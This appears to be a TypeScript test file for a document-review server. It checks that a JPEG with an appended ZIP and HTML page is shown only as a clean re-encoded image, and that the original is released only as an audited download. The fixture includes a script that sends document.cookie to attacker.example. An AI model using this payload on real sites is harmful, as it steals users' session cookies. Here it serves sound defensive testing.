// What the viewer shows is never the applicant's raw bytes. A JPEG with a ZIP archive and an HTML page appended is
// shown at 1:1 through its full-resolution rendition (re-encoded: none of the trailing bytes, no metadata, upright),
// while its original stays sealed as it arrived and leaves only as an audited attachment download.
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ResponseOf } from '../../shared/api';
import { openWorkstation, type Workstation } from '../api/workstation';
import { corpusFile } from '../../tests/support/imaging';
import { ExplicitKeyProvider } from '../common/keys';
import { tempFolder } from '../../tests/support/tempFolder';
import { startHost, type RunningHost } from './server';

const token = 'originals-token-'.padEnd(32, 'x');

/** A real ZIP archive holding one stored (uncompressed) file. */
function zipOf(name: string, content: string): Buffer {
  const data = Buffer.from(content);
  const file = Buffer.from(name);
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(file.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(file.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + file.length, 12);
  end.writeUInt32LE(local.length + file.length + data.length, 16);
  return Buffer.concat([local, file, data, central, file, end]);
}

const html = '<html><body><script>fetch("https://attacker.example/?c=" + document.cookie)</script></body></html>';

describe('the 1:1 view and the original of a document image', () => {
  let dir: string;
  let workstation: Workstation;
  let host: RunningHost;
  const call = async <T>(channel: string, body: unknown) => {
    const res = await fetch(`${host.url}api/${channel}`, { method: 'POST', headers: { Authorization: `Bearer ${token}` }, body: JSON.stringify(body) });
    return ((await res.json()) as { value: T }).value;
  };
  const image = (sha: string, variant: string) => fetch(`${host.url}images/${sha}/${variant}`, { headers: { Authorization: `Bearer ${token}` } });

  beforeAll(async () => {
    dir = tempFolder('verity-originals-');
    workstation = await openWorkstation({ dataDir: dir, host: 'browser', version: 't', keyProvider: new ExplicitKeyProvider(Buffer.alloc(32, 4)), demo: { count: 1 } });
    host = await startHost({ workstation, rendererDir: dir, clientScript: join(dir, 'none.js'), token });
  }, 120_000);
  afterAll(async () => {
    await host?.close();
    await workstation?.close();
  });

  it('shows a re-encoded rendition at full size, and serves the original byte for byte only as an audited attachment', async () => {
    await call('session.signIn', { username: 'reviewer1', password: 'verity-demo' });
    const applicationId = (await call<ResponseOf<'queue.list'>>('queue.list', { status: 'all' })).items[0]!.id;
    // A phone photo (EXIF orientation 6, GPS) with an archive and a web page after its end-of-image marker.
    const photo = corpusFile('quality/gps-exif-orient6.jpg');
    const zip = zipOf('payload.html', html);
    const bytes = Buffer.concat([photo, zip, Buffer.from(html)]);
    const sha256 = createHash('sha256').update(bytes).digest('hex');
    const uploaded = await fetch(`${host.url}api/images.import?applicationId=${applicationId}&role=page`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/octet-stream' },
      body: bytes,
    });
    expect(await uploaded.json()).toMatchObject({ ok: true, value: { document: { sha256, width: 1633, height: 2000 } } });

    // The 1:1 view: the picture at its full upright size, made afresh; nothing of what trailed or hid in the original.
    const fullAnswer = await image(sha256, 'full');
    expect(fullAnswer.status).toBe(200);
    expect(fullAnswer.headers.get('content-type')).toBe('image/jpeg');
    expect(fullAnswer.headers.get('content-disposition')).toBeNull();
    const full = Buffer.from(await fullAnswer.arrayBuffer());
    expect(full.includes(zip.subarray(0, 4))).toBe(false); // PK\3\4
    expect(full.includes('<html')).toBe(false);
    expect(full.includes('<script')).toBe(false);
    expect(full.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]));
    const meta = await sharp(full).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(['jpeg', 1633, 2000]);
    expect([meta.exif, meta.xmp, meta.icc, meta.iptc, meta.orientation]).toEqual([undefined, undefined, undefined, undefined, undefined]);
    // The same picture as the original turned upright (JPEG noise aside).
    const grey = (input: Buffer, upright: boolean) => (upright ? sharp(input).rotate() : sharp(input)).resize(64, 64, { fit: 'fill' }).greyscale().raw().toBuffer();
    const [a, b] = await Promise.all([grey(full, false), grey(photo, true)]);
    expect(a.reduce((sum, v, i) => sum + Math.abs(v - b[i]!), 0) / a.length).toBeLessThan(3);
    // Made once, then kept sealed beside the other variants.
    expect(existsSync(join(dir, 'blobs', sha256.slice(0, 2), `${sha256}.full`))).toBe(true);

    // The original: sealed as evidence, byte for byte, hash unchanged, and only ever as a download.
    const auditedBefore = (await call<ResponseOf<'case.get'>>('case.get', { applicationId, open: false })).audit.filter((e) => e.action === 'original_downloaded');
    expect(auditedBefore).toEqual([]);
    const originalAnswer = await image(sha256, 'original');
    expect(originalAnswer.status).toBe(200);
    expect(originalAnswer.headers.get('content-disposition')).toBe(`attachment; filename="verity-original-${sha256.slice(0, 16)}.jpg"`);
    expect(originalAnswer.headers.get('x-content-type-options')).toBe('nosniff');
    const original = Buffer.from(await originalAnswer.arrayBuffer());
    expect(original.equals(bytes)).toBe(true);
    expect(createHash('sha256').update(original).digest('hex')).toBe(sha256);

    // Each download is an audit entry on the case, naming the image and who took it; the chain still holds.
    await image(sha256, 'original');
    const detail = await call<ResponseOf<'case.get'>>('case.get', { applicationId, open: false });
    const downloads = detail.audit.filter((e) => e.action === 'original_downloaded');
    expect(downloads).toHaveLength(2);
    expect(downloads[0]).toMatchObject({ applicationId, actor: { id: 'reviewer1' }, details: { sha256, applications: [applicationId] } });
    expect(await call('audit.verify', {})).toMatchObject({ ok: true });
    // Previews and renditions are not downloads and are not audited as such.
    await image(sha256, 'preview');
    expect((await call<ResponseOf<'case.get'>>('case.get', { applicationId, open: false })).audit.filter((e) => e.action === 'original_downloaded')).toHaveLength(2);

    // Nobody signed in, no original and no audit entry.
    await call('session.lock', {});
    expect((await image(sha256, 'original')).status).toBe(403);
  }, 120_000);
});
